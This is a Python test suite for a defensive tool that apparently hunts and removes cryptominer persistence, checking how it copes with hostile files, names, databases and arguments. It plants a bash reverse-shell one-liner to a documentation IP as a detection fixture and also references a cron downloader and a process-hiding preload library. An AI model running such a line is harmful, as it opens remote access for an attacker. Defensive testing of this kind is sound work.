"""A hostile host against unmine: what the attacker controls (files, names, planted databases, procfs
stand-ins, arguments copied from what hunt reported) must neither blind, crash nor stall it."""
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
import tempfile
import time
import unittest

import harness
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import FIXTURES, copy_fixture, main, temp_case, unmine, validate_schema

CASE_APPLICATION_ID = 0x756e6d6e
REVERSE_SHELL = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"


def plant(path, text=REVERSE_SHELL):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)


def reverse_shells(doc):
    return {f.get("path") for f in doc["findings"] if f["kind"] == "tool.reverse_shell"}


class PlantedCaseDatabase(unittest.TestCase):
    def test_a_forged_case_database_does_not_hide_its_folder(self):
        # Anyone can write unmine's application id into a SQLite file; only folders this machine's unmine
        # registered when it created them are passed over.
        root = copy_fixture("hunt-clean")
        planted = os.path.join(root, "tmp", "cover")
        os.makedirs(planted)
        db = sqlite3.connect(os.path.join(planted, "case.db"))
        db.execute(f"PRAGMA application_id={CASE_APPLICATION_ID}")
        db.execute("CREATE TABLE t(x)")
        db.commit()
        db.close()
        plant(os.path.join(planted, "x.sh"))
        r = unmine("--root", root, "--json", "hunt", case=temp_case(), timeout=300)
        validate_schema(r.json, "hunt")
        self.assertIn("/tmp/cover/x.sh", reverse_shells(r.json))
        self.assertEqual(r.json["stats"]["files"]["case_folders_skipped"], 0)
        self.assertEqual(r.json["stats"]["files"]["unregistered_case_folders"], 1)
        self.assertTrue(any("/tmp/cover" in n and "registered" in n for n in r.json["notes"]), r.json["notes"])

    def test_a_case_this_machine_created_is_passed_over(self):
        root = copy_fixture("hunt-clean")
        old_case = os.path.join(root, "tmp", "old-case")
        self.assertEqual(unmine("--root", root, "validate", case=old_case).rc, 0)
        plant(os.path.join(old_case, "evidence", "x.sh"))
        r = unmine("--root", root, "--json", "hunt", case=temp_case(), timeout=300)
        self.assertNotIn("/tmp/old-case/evidence/x.sh", reverse_shells(r.json))
        self.assertEqual(r.json["stats"]["files"]["case_folders_skipped"], 1)

    def test_a_registry_others_can_write_is_not_trusted(self):
        state = tempfile.mkdtemp(prefix="unmine-state-")
        self.addCleanup(shutil.rmtree, state, True)
        root = copy_fixture("hunt-clean")
        old_case = os.path.join(root, "tmp", "old-case")
        env = {"UNMINE_STATE_DIR": state}
        self.assertEqual(unmine("--root", root, "validate", case=old_case, env=env).rc, 0)
        self.assertEqual(stat.S_IMODE(os.stat(state).st_mode), 0o700)
        plant(os.path.join(old_case, "evidence", "x.sh"))
        os.chmod(os.path.join(state, "case-folders"), 0o666)
        r = unmine("--root", root, "--json", "hunt", case=temp_case(), env=env, timeout=300)
        self.assertIn("/tmp/old-case/evidence/x.sh", reverse_shells(r.json))
        self.assertIn("writable by group or others", r.stderr)


class SymlinkedPersistence(unittest.TestCase):
    """A cron file and ld.so.preload that are symlinks to files elsewhere under the root: the line goes
    from the file the link leads to (preserved first), the link stays, and undo restores both."""

    def setUp(self):
        import test_unpersist
        self.root = copy_fixture("persist-miner")
        os.makedirs(os.path.join(self.root, "proc"), exist_ok=True)
        hidden = os.path.join(self.root, "var", "tmp", ".c")
        os.makedirs(hidden)
        self.links = {"etc/cron.d/sysupdate": ("../../var/tmp/.c/job", "var/tmp/.c/job"),
                      "etc/ld.so.preload": ("../var/tmp/.c/preload", "var/tmp/.c/preload")}
        self.before = {}
        for link, (text, target) in self.links.items():
            shutil.move(os.path.join(self.root, link), os.path.join(self.root, target))
            os.symlink(text, os.path.join(self.root, link))
            with open(os.path.join(self.root, target), "rb") as f:
                self.before[target] = f.read()
        self.case = temp_case()
        test_unpersist.seed_case(self.case, self.root)

    def unpersist(self, *args):
        return unmine("--root", self.root, "--proc", os.path.join(self.root, "proc"), "--json", "--apply",
                      "unpersist", *args, case=self.case)

    def test_the_line_is_removed_where_the_link_leads_and_undo_restores_it(self):
        r = self.unpersist()
        self.assertEqual(r.rc, 0, r)
        by_path = {a["target"]["path"]: a for a in r.json["actions"]}
        for link, (text, target) in self.links.items():
            a = by_path["/" + link]
            self.assertEqual(a["status"], "done", a)
            self.assertEqual(os.readlink(os.path.join(self.root, link)), text)  # the link itself kept
        with open(os.path.join(self.root, "var/tmp/.c/job"), "rb") as f:
            self.assertNotIn(b"203.0.113.9/ldr.sh", f.read())
        with open(os.path.join(self.root, "var/tmp/.c/preload"), "rb") as f:
            self.assertNotIn(b"libprocesshider", f.read())
        # The link removed meanwhile (by the attacker's cleanup or a responder): undo puts back both.
        os.unlink(os.path.join(self.root, "etc/cron.d/sysupdate"))
        for link in self.links:
            u = self.unpersist("--undo", str(by_path["/" + link]["id"]))
            self.assertEqual(u.rc, 0, u)
        for link, (text, target) in self.links.items():
            self.assertEqual(os.readlink(os.path.join(self.root, link)), text)
            with open(os.path.join(self.root, target), "rb") as f:
                self.assertEqual(f.read(), self.before[target])


class HostileArguments(unittest.TestCase):
    def test_invalid_utf8_in_any_argument_is_recorded_escaped(self):
        # A file hunt reported, named with bytes that are not UTF-8, preserved by that very name.
        folder = tempfile.mkdtemp(prefix="unmine-adv-")
        self.addCleanup(shutil.rmtree, folder, True)
        name = os.path.join(folder.encode(), b"x\xff\xfe\x1b[2J.sh")
        with open(name, "wb") as f:
            f.write(b"#!/bin/sh\n")
        case = temp_case()
        p = subprocess.run([harness.BIN, "--case", case, "--json", "preserve", "--path", name],
                           capture_output=True, stdin=subprocess.DEVNULL)
        self.assertEqual(p.returncode, 0, p)
        doc = json.loads(p.stdout)
        self.assertEqual(doc["summary"]["stored"], 1, doc)
        db = sqlite3.connect(os.path.join(case, "case.db"))
        argv = json.loads(db.execute("SELECT argv FROM steps WHERE step='preserve'").fetchone()[0])
        db.close()
        self.assertTrue(any("\\xff\\xfe\\x1b[2J" in a for a in argv), argv)

    def test_a_leading_zero_is_decimal(self):
        # 010 is ten, never octal eight: a PID read as another PID would profile or signal the wrong process.
        root = copy_fixture("triage_miner")
        shutil.copytree(os.path.join(root, "proc", "4242"), os.path.join(root, "proc", "10"), symlinks=True)
        shutil.copytree(os.path.join(root, "proc", "1"), os.path.join(root, "proc", "8"), symlinks=True)
        r = unmine("--root", root, "--json", "identify", "--pid", "010", case=temp_case())
        # The processes profiled (PID 8, a copy of PID 1, may still show as an ancestor).
        pids = {m["pid"] for m in r.json["miners"]}
        self.assertIn(10, pids, r)
        self.assertNotIn(8, pids, r)
        r = unmine("--json", "hunt", "--threads", "0x10", case=temp_case())
        self.assertEqual(r.rc, 2, r)

    def test_every_numeric_option_is_bounded(self):
        case = temp_case()
        for argv in (["hunt", "--threads", "100000"], ["hunt", "--threads", "-1"], ["hunt", "--max-file-size", "99999999"],
                     ["kill", "--watch", "99999999"], ["report", "--cost-per-vcpu-hour", "inf"],
                     ["report", "--cost-per-vcpu-hour", "-1"], ["report", "--cost-per-vcpu-hour", "1e400"]):
            r = unmine("--json", *argv, case=case)
            self.assertEqual(r.rc, 2, (argv, r))
            self.assertEqual(r.json["error"]["kind"], "usage", (argv, r))
        db = sqlite3.connect(os.path.join(case, "case.db")) if os.path.exists(os.path.join(case, "case.db")) else None
        if db:
            self.assertEqual(db.execute("SELECT count(*) FROM steps WHERE status='running'").fetchone()[0], 0)
            db.close()

    def test_a_usage_error_is_no_playbook_step(self):
        case = temp_case()
        self.assertEqual(unmine("--root", os.path.join(FIXTURES, "hosts", "hunt-clean"), "validate", case=case).rc, 0)
        r = unmine("--json", "hunt", "--since", "yesterday", case=case)
        self.assertEqual(r.rc, 2, r)
        db = sqlite3.connect(os.path.join(case, "case.db"))
        steps = db.execute("SELECT step, status FROM steps").fetchall()
        db.close()
        self.assertEqual(steps, [("validate", "done")])

    def test_an_unknown_command_is_named(self):
        r = unmine("--json", "--case", temp_case(), "valdate")
        self.assertEqual(r.rc, 2, r)
        self.assertIn("unknown command 'valdate'", r.json["error"]["message"])
        self.assertNotIn("A subcommand is required", r.stderr)


class ForeignDatabase(unittest.TestCase):
    def test_another_applications_sqlite_is_not_adopted(self):
        case = tempfile.mkdtemp(prefix="unmine-adv-")
        self.addCleanup(shutil.rmtree, case, True)
        path = os.path.join(case, "case.db")
        db = sqlite3.connect(path)
        db.execute("CREATE TABLE mail(id INTEGER PRIMARY KEY, body TEXT)")
        db.execute("INSERT INTO mail(body) VALUES('keep me')")
        db.commit()
        db.close()
        with open(path, "rb") as f:
            before = f.read()
        mode = os.stat(case).st_mode
        r = unmine("--json", "status", case=case)
        self.assertEqual(r.rc, 1, r)
        self.assertIn("another application's SQLite database", r.json["error"]["message"])
        with open(path, "rb") as f:
            self.assertEqual(f.read(), before)
        self.assertEqual(os.stat(case).st_mode, mode)
        self.assertFalse(os.path.exists(os.path.join(case, "evidence")))

    def test_a_file_that_is_not_sqlite_is_not_overwritten(self):
        case = tempfile.mkdtemp(prefix="unmine-adv-")
        self.addCleanup(shutil.rmtree, case, True)
        with open(os.path.join(case, "case.db"), "w") as f:
            f.write("notes of the responder\n")
        r = unmine("validate", "--root", os.path.join(FIXTURES, "hosts", "hunt-clean"), case=case)
        self.assertEqual(r.rc, 1, r)
        self.assertIn("not a SQLite database", r.stderr)
        with open(os.path.join(case, "case.db")) as f:
            self.assertEqual(f.read(), "notes of the responder\n")

    def test_an_immutable_case_can_still_be_read(self):
        case = temp_case()
        self.assertEqual(unmine("--root", os.path.join(FIXTURES, "hosts", "hunt-clean"), "validate", case=case).rc, 0)
        db = os.path.join(case, "case.db")
        if subprocess.run(["/usr/bin/chattr", "+i", db], capture_output=True).returncode != 0:
            self.skipTest("chattr +i is not possible here (needs root and a filesystem with inode flags)")
        self.addCleanup(subprocess.run, ["/usr/bin/chattr", "-i", db])
        with open(db, "rb") as f:
            before = f.read()
        r = unmine("--json", "status", case=case)
        self.assertEqual(r.rc, 0, r)
        validate_schema(r.json, "status")
        r = unmine("--json", "report", "--format", "json", case=case)
        self.assertEqual(r.rc, 0, r)
        r = unmine("--json", "--root", os.path.join(FIXTURES, "hosts", "hunt-clean"), "validate", case=case)
        self.assertEqual(r.rc, 1, r)
        self.assertIn("cannot be written", r.json["error"]["message"])
        with open(db, "rb") as f:
            self.assertEqual(f.read(), before)


class InterruptedRuns(unittest.TestCase):
    def test_a_preserve_killed_mid_copy_is_marked_interrupted(self):
        folder = tempfile.mkdtemp(prefix="unmine-adv-")
        self.addCleanup(shutil.rmtree, folder, True)
        big = os.path.join(folder, "big")
        with open(big, "wb") as f:
            f.truncate(4 << 30)  # sparse: reads as zeros, slow enough to be killed mid-copy
        small = os.path.join(folder, "small")
        with open(small, "w") as f:
            f.write("the case exists before the run that is killed\n")
        case = temp_case()
        self.assertEqual(unmine("preserve", "--path", small, case=case).rc, 0)
        p = subprocess.Popen([harness.BIN, "--case", case, "preserve", "--path", big],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
        db = sqlite3.connect(os.path.join(case, "case.db"), timeout=30)
        deadline = time.time() + 60
        while time.time() < deadline:
            if db.execute("SELECT count(*) FROM archives WHERE status='writing'").fetchone()[0]:
                break
            time.sleep(0.05)
        p.kill()
        p.wait()
        self.assertEqual(db.execute("SELECT status FROM steps WHERE step='preserve' ORDER BY id DESC LIMIT 1").fetchone()[0], "running")
        r = unmine("--json", "status", case=case)
        self.assertEqual(r.rc, 0, r)
        validate_schema(r.json, "status")
        self.assertEqual(db.execute("SELECT status FROM steps WHERE step='preserve' ORDER BY id DESC LIMIT 1").fetchone()[0], "interrupted")
        self.assertEqual(db.execute("SELECT count(*) FROM archives WHERE status='writing'").fetchone()[0], 0)
        self.assertEqual(db.execute("SELECT count(*) FROM evidence WHERE status='pending'").fetchone()[0], 0)
        db.close()
        v = unmine("--json", "evidence", "verify", case=case)
        self.assertTrue(v.json["intact"], v)


class HostileNames(unittest.TestCase):
    def test_c1_controls_and_bidi_overrides_never_reach_the_terminal(self):
        root = copy_fixture("hunt-clean")
        name = b"a\xc2\x9b2J\xe2\x80\xaehs.exe"  # C1 CSI, then U+202E
        plant(os.path.join(root.encode(), b"tmp", name).decode("utf-8", "surrogateescape"))
        r = unmine("--root", root, "hunt", case=temp_case(), timeout=300)
        for raw in ("\u009b", "\u202e"):
            self.assertNotIn(raw, r.stdout + r.stderr)
        self.assertIn("\\xc2\\x9b2J\\xe2\\x80\\xaehs.exe", r.stdout)
        self.assertNotIn("\\\\x", r.stdout)  # escaped once, not twice

    def test_a_fake_procfs_cwd_of_slash_lists_the_root(self):
        root = copy_fixture("triage_miner")
        case = temp_case()
        unmine("--root", root, "--json", "preserve", "--pid", "1", case=case)
        db = sqlite3.connect(os.path.join(case, "case.db"))
        row = db.execute("SELECT stored_path FROM evidence WHERE kind='cwd_listing'").fetchone()
        db.close()
        self.assertIsNotNone(row)
        with open(os.path.join(case, row[0])) as f:
            names = {e["name"] for e in json.load(f)}
        self.assertIn("etc", names)
        self.assertNotIn("4242", names)  # the fixture procfs itself

    def test_no_procfs_is_said_once(self):
        r = unmine("--root", os.path.join(FIXTURES, "hosts", "hunt-clean"), "validate", case=temp_case())
        self.assertEqual(r.stderr.count("no procfs"), 1, r)


class Limits(unittest.TestCase):
    # A 2 GiB crontab (the tied line, then a hole): validate notes the cut read, and unpersist, which edits
    # only files it can read whole, fails the action (exit 1) and leaves the file as it was.
    def test_a_crontab_too_large_to_edit_fails_the_action(self):
        import test_unpersist
        root = copy_fixture("persist-miner")
        os.makedirs(os.path.join(root, "proc"), exist_ok=True)
        crontab = os.path.join(root, "etc", "crontab")
        with open(crontab, "ab") as f:
            f.truncate(2 << 30)  # the tied line first, then 2 GiB of holes
        case = temp_case()
        test_unpersist.seed_case(case, root)
        v = unmine("--root", root, "--proc", os.path.join(root, "proc"), "--json", "validate", case=case)
        self.assertTrue(any("/etc/crontab" in n and "only the start was read" in n for n in v.json["notes"]), v.json["notes"])
        r = unmine("--root", root, "--proc", os.path.join(root, "proc"), "--json", "--apply", "unpersist", case=case)
        self.assertEqual(r.rc, 1, r)
        a = [a for a in r.json["actions"] if a["target"]["path"] == "/etc/crontab"]
        self.assertEqual(a[0]["status"], "failed", a)
        self.assertEqual(os.path.getsize(crontab), 2 << 30)

    def test_a_depth_limit_is_named_and_the_hunt_incomplete(self):
        root = copy_fixture("hunt-clean")
        deep = os.path.join(root, "tmp")
        os.makedirs(deep, exist_ok=True)
        fd = os.open(deep, os.O_RDONLY)
        for _ in range(120):  # deeper than the walk goes; built by fd so no path grows too long
            os.mkdir("d", dir_fd=fd)
            nfd = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = nfd
        os.close(fd)
        r = unmine("--root", root, "--json", "hunt", case=temp_case(), timeout=300)
        validate_schema(r.json, "hunt")
        self.assertFalse(r.json["complete"])
        self.assertTrue(any("nested deeper" in n and "/tmp/d/d" in n for n in r.json["notes"]), r.json["notes"])
        p = unmine("--root", root, "--json", "preserve", "--path", "/tmp/d", case=temp_case(), timeout=300)
        self.assertEqual(p.rc, 1, p)
        self.assertFalse(p.json["complete"])
        self.assertTrue(any("deeper than" in n for n in p.json["notes"]), p.json["notes"])


if __name__ == "__main__":
    main()
